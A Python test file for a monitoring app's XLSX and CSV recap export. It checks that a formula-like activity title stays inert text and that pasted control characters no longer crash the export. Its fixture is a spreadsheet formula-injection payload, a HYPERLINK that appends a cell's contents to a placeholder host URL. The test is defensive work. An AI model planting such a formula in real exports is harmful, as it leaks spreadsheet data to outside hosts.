"""The recap's cells hold what people typed as text: a spreadsheet must not run it as a formula."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from engine import services
from engine.db import Instance
from tests.integration.test_monitoring_versions import signed_in

TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Rekap")'
PERIOD = "+62 812 Triwulan I"


def test_a_title_typed_like_a_formula_is_text_in_the_xlsx_and_the_csv(rt):
    instance_id = services.start(rt, "monev_kegiatan_bidang", "aptika", TITLE, "aptika.implementasi", PERIOD)
    client = signed_in(rt, "kadis")

    book = load_workbook(io.BytesIO(client.get("/monitoring/rekap.xlsx").data))
    sheet = book["Kegiatan"]
    heads = [c.value for c in sheet[1]]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[heads.index("ID kegiatan")].value == instance_id]
    title, period = row[heads.index("Judul kegiatan")], row[heads.index("Periode")]
    assert (title.value, title.data_type) == (TITLE, "s")  # was "f": a live formula (a link out, here)
    assert (period.value, period.data_type) == (PERIOD, "s")

    text = client.get("/monitoring/rekap.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    [line] = [r for r in rows[1:] if r[1] == str(instance_id)]
    assert line[rows[0].index("Judul kegiatan")] == "'" + TITLE
    assert line[rows[0].index("Periode")] == "'" + PERIOD
    assert line[rows[0].index("Dimulai oleh")] == "aptika.implementasi"  # other text as it is


def test_a_control_character_in_a_title_does_not_break_the_xlsx(rt):
    """A title holding a control character (Word's line break \\x0b, pasted) made openpyxl refuse the
    cell, and the whole office's XLSX recap was a 500. Such a character is a space in the sheet."""
    instance_id = services.start(rt, "monev_kegiatan_bidang", "aptika", "Rapat", "aptika.implementasi")
    with rt.uow() as session:  # as stored before the start refused such titles
        row = session.get(Instance, instance_id)
        row.title, row.period = "Rapat\x0bkoordinasi\x1b", "Triwulan\x07I"
        session.commit()
    client = signed_in(rt, "kadis")

    response = client.get("/monitoring/rekap.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data))["Kegiatan"]
    heads = [c.value for c in sheet[1]]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[heads.index("ID kegiatan")].value == instance_id]
    assert row[heads.index("Judul kegiatan")].value == "Rapat koordinasi "
    assert row[heads.index("Periode")].value == "Triwulan I"
